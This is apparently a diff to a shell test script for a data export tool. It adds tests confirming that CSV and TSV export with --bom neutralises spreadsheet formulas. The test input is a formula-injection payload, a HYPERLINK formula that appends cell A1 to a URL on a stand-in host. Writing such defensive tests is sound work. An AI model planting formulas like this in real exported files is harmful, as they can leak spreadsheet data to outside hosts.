@@ -8,10 +8,11 @@
 # searched for every phone and ID number of the county and of the corpus,
 # however the output writes them (full-width, with separators).  With
 # --reveal they are there; the corpus's lookalikes come out untouched.
+# And CSV for Excel (--bom) neutralises formula cells.
 . "$(dirname "$0")/lib.sh"
 example_store
 grid-import -q rules "$EX/rules.csv"
-grid-assign pair -q >/dev/null
+grid-assign pair -q >/dev/null 2>&1
 CORPUS=$FIX/scrub-corpus.tsv
 export GRID_NOW='2013-07-01 09:00'
 
@@ -143,5 +144,19 @@ is "$(cut -f5 issues.tsv | sed 1d | tail -n "$((n - nleak))")" \
 is "$(cut -f10 list.tsv | sed 1d | tail -n "$((n - nleak))")" \
 	"$(tail -n "$((n - nleak))" texts)" \
 	"and out of issue-list"
+
+# CSV for Excel: a text Excel would run as a formula is text after a '
+f=$(issue-file --grid 371399 --category 其他 \
+	--text '=HYPERLINK("http://x.example/?"&A1,"点击")')
+run grid-export issues -o csv --bom
+like "$(printf '%s\n' "$out" | grep "^$f,")" \
+	",\"'=HYPERLINK\(\"\"http://x.example/\?\"\"&A1,\"\"点击\"\"\)\"," \
+	"grid-export -o csv --bom: a formula cell neutralised"
+run grid-export issues -o tsv --bom
+like "$(printf '%s\n' "$out" | grep "^$f	")" "	'=HYPERLINK" \
+	"grid-export -o tsv --bom: the same"
+run grid-export issues -o csv
+like "$(printf '%s\n' "$out" | grep "^$f,")" ',"=HYPERLINK' \
+	"without --bom, for the next program: as typed"
 
 done_testing
